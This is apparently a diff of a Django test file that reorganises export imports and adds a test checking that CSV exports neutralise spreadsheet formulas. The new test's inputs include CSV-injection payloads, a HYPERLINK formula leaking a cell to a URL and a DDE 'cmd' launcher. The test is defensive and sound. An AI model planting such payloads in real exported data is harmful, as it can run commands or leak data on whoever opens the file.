@@ -14,8 +14,11 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from rest_framework.throttling import ScopedRateThrottle
 
-from annotator.exports import ExportParams, export_job_run, export_rows, export_write_parquet
-from annotator.models import ExportJob
+from exports.jobs import export_job_run
+from exports.models import ExportJob
+from exports.params import ExportParams
+from exports.rows import export_rows
+from exports.writers import export_write_parquet
 from tests.factories import ItemFactory
 
 pytestmark = pytest.mark.django_db
@@ -95,6 +98,20 @@ def test_csv_keeps_newlines_and_quotes_inside_cells(admin, labeled):
     response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "judgments", "as": "csv"})
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert rows[0]["rationale"] == 'Line one,\n"two"'
+
+
+@pytest.mark.parametrize("rationale", ['=HYPERLINK("http://x/?"&A2,"a")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                       "@SUM(1+1)", "\tleading tab", "\rleading return"])
+def test_csv_cells_that_would_start_a_formula_are_neutralised(admin, labeled, rationale):
+    from annotator.models import Judgment
+
+    Judgment.objects.filter(pk=labeled.judgments["agree-first"][0].pk).update(rationale=rationale)
+    url = f"/api/v1/projects/{labeled.project.id}/export"
+    response = admin.get(url, {"format": "judgments", "as": "csv"})
+    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["rationale"] == "'" + rationale, "a spreadsheet shows the text instead of running it"
+    assert row["preference"] == "-2", "numbers are never changed"
+    assert jsonl(admin, labeled.project, format="judgments")[0]["rationale"] == rationale, "JSONL keeps the text"
 
 
 def test_asking_for_parquet_starts_an_export_job(admin, labeled, django_capture_on_commit_callbacks):
@@ -274,11 +291,11 @@ def test_the_export_command_names_bad_arguments(labeled):
 def test_a_client_that_hangs_up_mid_stream_leaves_no_reader_thread(labeled, monkeypatch):
     import threading
 
-    from annotator import exports
+    from exports import rows, writers
 
-    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
-    monkeypatch.setattr(exports, "STREAM_CHUNK_BYTES", 1)
-    stream = exports.export_stream(project=labeled.project, params=ExportParams(export_format="judgments"),
+    monkeypatch.setattr(rows, "CHUNK_ROWS", 2)
+    monkeypatch.setattr(writers, "STREAM_CHUNK_BYTES", 1)
+    stream = writers.export_stream(project=labeled.project, params=ExportParams(export_format="judgments"),
                                    file_format="jsonl")
     first = next(stream)
     assert first.count(b"\n") == 1
@@ -289,7 +306,7 @@ def test_a_client_that_hangs_up_mid_stream_leaves_no_reader_thread(labeled, monk
 
 
 def test_a_database_error_while_reading_ahead_reaches_the_stream(labeled, monkeypatch):
-    from annotator import exports
+    from exports import rows
 
     real = connection.chunked_cursor
 
@@ -306,6 +323,6 @@ def test_a_database_error_while_reading_ahead_reaches_the_stream(labeled, monkey
         def close(self):
             self.cursor.close()
 
-    monkeypatch.setattr(exports.connection, "chunked_cursor", Failing)
+    monkeypatch.setattr(rows.connection, "chunked_cursor", Failing)
     with pytest.raises(RuntimeError, match="went away"):
-        list(exports.export_rows(project=labeled.project, params=ExportParams(export_format="judgments")))
+        list(rows.export_rows(project=labeled.project, params=ExportParams(export_format="judgments")))
